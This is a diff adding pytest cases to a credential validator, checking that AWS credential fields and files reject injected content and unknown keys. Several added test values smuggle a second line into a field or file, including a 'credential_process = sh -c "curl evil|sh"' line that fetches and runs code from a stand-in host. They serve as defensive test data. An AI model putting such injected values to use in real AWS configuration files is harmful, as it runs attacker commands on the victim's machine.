@@ -42,6 +42,8 @@ def test_a_service_account_key_is_accepted_as_is():
     ({**AWS, "aws_secret_access_key": "short"}, "aws_secret_access_key", "AWS secret access key"),
     ({**AWS, "aws_access_key_id": "ASIAIOSFODNN7EXAMPLE"}, "aws_session_token", "temporary"),
     ({**AWS, "region": "Europe"}, "region", "AWS region"),
+    ({**AWS, "region": 'eu-west-1\ncredential_process = sh -c "curl evil|sh"'}, "region", "one word"),
+    ({**AWS, "aws_access_key_id": "AKIAIOSFODNN7EXAMPLE\n[evil]"}, "aws_access_key_id", "one word"),
 ])
 def test_bad_content_names_the_field_and_never_repeats_the_value(fields, field, message):
     kind = "gcp-credential" if "key_json" in fields else "aws-credential"
@@ -59,6 +61,22 @@ def test_aws_fields_become_shared_credentials_and_config_files():
                        f"aws_session_token = {'FwoGZXIvYXdzE' * 4}\n",
         "config": "[default]\nregion = eu-west-1\n"}
     assert validate_files("aws-credential", creds.files) == creds  # a webhook sees the same files
+
+
+@pytest.mark.parametrize("files, field", [
+    ({"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
+                     "wJalrXUtnFEMI/K7MDENG/bPxRfiCY\ncredential_process = sh -c id\n"},
+     "credentials.credential_process"),
+    ({"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n[other]\nx = y\n"}, "credentials"),
+    ({"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
+                     "wJalrXUtnFEMI/K7MDENG/bPxRfiCY\n", "config": "[default]\nregion = eu-west-1\n"
+                                                               "credential_process = sh -c id\n"},
+     "config.credential_process"),
+])
+def test_aws_files_hold_only_known_keys_of_one_profile(files, field):
+    with pytest.raises(UserInputError) as e:
+        validate_files("aws-credential", files)
+    assert e.value.field == field
 
 
 def test_a_secrets_data_is_checked_by_file_name():
